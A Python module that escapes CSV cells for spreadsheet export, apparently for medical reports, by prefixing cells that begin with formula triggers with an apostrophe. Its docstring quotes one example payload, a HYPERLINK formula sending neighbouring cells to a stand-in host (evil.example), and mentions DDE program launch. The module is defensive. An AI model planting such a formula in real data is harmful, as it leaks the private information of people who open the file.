"""Cells of the CSV reports, made safe to open in a spreadsheet.

A CSV file is data, but Excel, LibreOffice and Google Sheets read a cell that starts
with ``=``, ``+``, ``-`` or ``@`` as a formula ("CSV injection", OWASP). Patients and
doctors type some of what the reports carry (names, reasons for a visit): a name such
as ``=HYPERLINK("https://evil.example/?"&A1, "click")`` would run in the admin's
spreadsheet, leaking the neighbouring cells or starting a program (DDE). Tab and
carriage return start formulas too in some of them, after their own trimming.

The defence OWASP recommends: such a cell is written with a leading apostrophe, which
spreadsheets show as text and do not evaluate. The value is otherwise untouched (no
character is dropped), and a reader who knows the rule can tell a prefixed cell by its second
character. Quoting (commas, quotes, line breaks) is the ``csv``
module's business, not this one's: quoting does not stop a formula.
"""

from __future__ import annotations

from typing import Final

#: First characters that make a spreadsheet evaluate a cell.
FORMULA_TRIGGERS: Final = frozenset("=+-@\t\r")
#: What a dangerous cell is prefixed with.
TEXT_MARK: Final = "'"


def safe_cell(value: str) -> str:
    """``value`` as a spreadsheet will show it, never as a formula it would evaluate."""
    if value and value[0] in FORMULA_TRIGGERS:
        return TEXT_MARK + value
    return value
